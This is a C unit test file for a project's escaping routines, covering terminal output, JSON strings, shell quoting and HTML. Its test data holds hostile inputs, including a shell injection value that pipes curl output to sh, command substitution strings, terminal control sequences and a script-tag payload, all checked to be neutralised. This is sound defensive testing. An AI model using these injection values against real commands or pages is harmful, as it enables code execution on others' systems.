/* Unit tests for src/core/escape.c, the one escaper for terminals, and
 * for the JSON writer's use of it: text for people (listings, messages),
 * a program's output cut at every byte as a pipe may cut it, and JSON
 * strings that stay valid whatever bytes they are given. */
#include <stdlib.h>

#include "core/buf.h"
#include "core/escape.h"
#include "core/json.h"
#include "unit.h"

static const struct {
  const char *in, *text, *output;
} cases[] = {
    {"plain text\tand a tab\n", "plain text\\tand a tab\\n", "plain text\tand a tab\n"},
    {"back\\slash", "back\\\\slash", "back\\slash"},
    {"title:\033]0;x\007", "title:\\x1b]0;x\\x07", "title:\\x1b]0;x\\x07"},
    {"clear:\033[2J\r", "clear:\\x1b[2J\\r", "clear:\\x1b[2J\\x0d"},
    {"del:\x7f nul-free", "del:\\x7f nul-free", "del:\\x7f nul-free"},
    {"csi8:\xc2\x9b"
     "2J",
     "csi8:\\u{009b}2J", "csi8:\\u{009b}2J"},
    {"bidi:\xe2\x80\xae"
     "x\xe2\x81\xa6"
     "y\xe2\x80\x8f\xd8\x9c",
     "bidi:\\u{202e}x\\u{2066}y\\u{200f}\\u{061c}", "bidi:\\u{202e}x\\u{2066}y\\u{200f}\\u{061c}"},
    {"utf8: h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80",
     "utf8: h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80",
     "utf8: h\xc3\xa9llo \xe2\x82\xac \xf0\x9f\x98\x80"},
    {"bad:\xff\xc0\xaf\xed\xa0\x80\xf4\x90\x80\x80",
     "bad:\\xff\\xc0\\xaf\\xed\\xa0\\x80\\xf4\\x90\\x80\\x80",
     "bad:\\xff\\xc0\\xaf\\xed\\xa0\\x80\\xf4\\x90\\x80\\x80"},
    {"short:\xe2\x82", "short:\\xe2\\x82", "short:\\xe2\\x82"},
    {"lead then ascii:\xe2"
     "A",
     "lead then ascii:\\xe2A", "lead then ascii:\\xe2A"},
};

static char *escape_str(const char *s)
{
  struct cap_buf b = {0};
  cap_escape_text(&b, s, strlen(s));
  return cap_buf_steal(&b);
}

static void test_text(void)
{
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    char *got = escape_str(cases[i].in);
    CHECK_STR(got, cases[i].text);
    free(got);
  }
  char *empty = escape_str("");
  CHECK_STR(empty, "");
  free(empty);
}

/* text escaped as a program's output in two pieces, cut after `cut`
 * bytes (cut == len: in one piece). */
static char *escape_output_cut(const char *text, size_t cut)
{
  struct cap_buf out = {0};
  struct cap_escape_stream st = {0};
  cap_escape_output(&st, &out, text, cut);
  cap_escape_output(&st, &out, text + cut, strlen(text) - cut);
  cap_escape_output_end(&st, &out);
  cap_buf_putc(&out, '\0');
  return out.data;
}

static void test_output_cut_everywhere(void)
{
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
    for (size_t cut = 0; cut <= strlen(cases[i].in); cut++) {
      char *got = escape_output_cut(cases[i].in, cut);
      CHECK_STR(got, cases[i].output);
      free(got);
    }
}

/* One byte a piece: a sequence finished over several pieces. */
static void test_output_byte_by_byte(void)
{
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    struct cap_buf out = {0};
    struct cap_escape_stream st = {0};
    for (const char *p = cases[i].in; *p; p++)
      cap_escape_output(&st, &out, p, 1);
    cap_escape_output_end(&st, &out);
    cap_buf_putc(&out, '\0');
    CHECK_STR(out.data, cases[i].output);
    cap_buf_free(&out);
  }
}

static char *fput(const char *s, size_t max)
{
  char *data = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&data, &len);
  cap_escape_fput(f, s, max);
  fclose(f);
  return data;
}

static void test_fput_cut_at_a_character(void)
{
  char *got = fput("ab\033c", 100);
  CHECK_STR(got, "ab\\x1bc");
  free(got);
  got = fput("abcdef", 3);
  CHECK_STR(got, "abc...");
  free(got);
  got = fput("a\xe2\x80\xae"
             "b",
             3); /* not half of U+202E shown as two bad bytes */
  CHECK_STR(got, "a...");
  free(got);
  got = fput("\xe2\x82\xac", 0);
  CHECK_STR(got, "...");
  free(got);
}

static char *json_quote(const char *s, size_t n)
{
  struct cap_buf b = {0};
  cap_json_quote(&b, s, n);
  return cap_buf_steal(&b);
}

/* Every string the writer makes is valid JSON that says what it got:
 * bytes that are not UTF-8 as U+FFFD, controls and bidi as \uXXXX. */
static void test_json_strings(void)
{
  static const struct {
    const char *in, *want;
  } json[] = {
      {"a\"b\\c\n\t\033", "\"a\\\"b\\\\c\\n\\t\\u001b\""},
      {"del\x7f c1\xc2\x9b", "\"del\\u007f c1\\u009b\""},
      {"rtl\xe2\x80\xae"
       "x\xe2\x81\xa9",
       "\"rtl\\u202ex\\u2069\""},
      {"bad\xff\xc0\xaf"
       "x\xe2\x82",
       "\"bad\\ufffd\\ufffd\\ufffdx\\ufffd\\ufffd\""},
      {"ok h\xc3\xa9 \xf0\x9f\x98\x80", "\"ok h\xc3\xa9 \xf0\x9f\x98\x80\""},
  };
  for (size_t i = 0; i < sizeof json / sizeof json[0]; i++) {
    char *got = json_quote(json[i].in, strlen(json[i].in));
    CHECK_STR(got, json[i].want);
    struct cap_doc *doc = cap_doc_new();
    struct cap_diags d = {0};
    CHECK(cap_json_parse(doc, got, strlen(got), "t.json", 0, &d) == 0);
    cap_diags_free(&d);
    cap_doc_free(doc);
    free(got);
  }
  char *nul = json_quote("a\0b", 3);
  CHECK_STR(nul, "\"a\\u0000b\"");
  free(nul);
}

/* A word for the shell: safe text as it is, the rest single-quoted. */
static void test_shell_quote(void)
{
  static const char *const quotes[][2] = {
      {"wordcount", "wordcount"},
      {"a-b_c.d/e:f@g%h=i", "a-b_c.d/e:f@g%h=i"},
      {"", "''"},
      {"two words", "'two words'"},
      {"X;curl${IFS}evil|sh", "'X;curl${IFS}evil|sh'"},
      {"it's", "'it'\\''s'"},
      {"$(id)`id`", "'$(id)`id`'"},
  };
  for (size_t i = 0; i < sizeof quotes / sizeof quotes[0]; i++) {
    char *q = cap_shell_quote(quotes[i][0]);
    CHECK_STR(q, quotes[i][1]);
    free(q);
  }
}

/* HTML for the dashboard: markup characters as references, the rest as
 * the terminal escaper shows it; no byte of the input opens a tag or an
 * attribute. */
static void test_html(void)
{
  static const char *const html[][2] = {
      {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
      {"a&b \"q\" 'x'", "a&amp;b &quot;q&quot; &#39;x&#39;"},
      {"line\nnext\ttab\\", "line\nnext\ttab\\"},
      {"esc\033[2J\r", "esc\\x1b[2J\\x0d"},
      {"bidi\xe2\x80\xaex", "bidi\\u{202e}x"},
      {"bad\xff<", "bad\\xff&lt;"},
      {"h\xc3\xa9 \xf0\x9f\x98\x80", "h\xc3\xa9 \xf0\x9f\x98\x80"},
  };
  for (size_t i = 0; i < sizeof html / sizeof html[0]; i++) {
    struct cap_buf b = {0};
    cap_escape_html(&b, html[i][0], strlen(html[i][0]));
    cap_buf_putc(&b, '\0');
    CHECK_STR(b.data, html[i][1]);
    CHECK(!strpbrk(b.data, "<>\"'"));
    cap_buf_free(&b);
  }
}

UNIT_MAIN(test_html, test_text, test_output_cut_everywhere, test_output_byte_by_byte,
          test_fput_cut_at_a_character, test_json_strings, test_shell_quote)
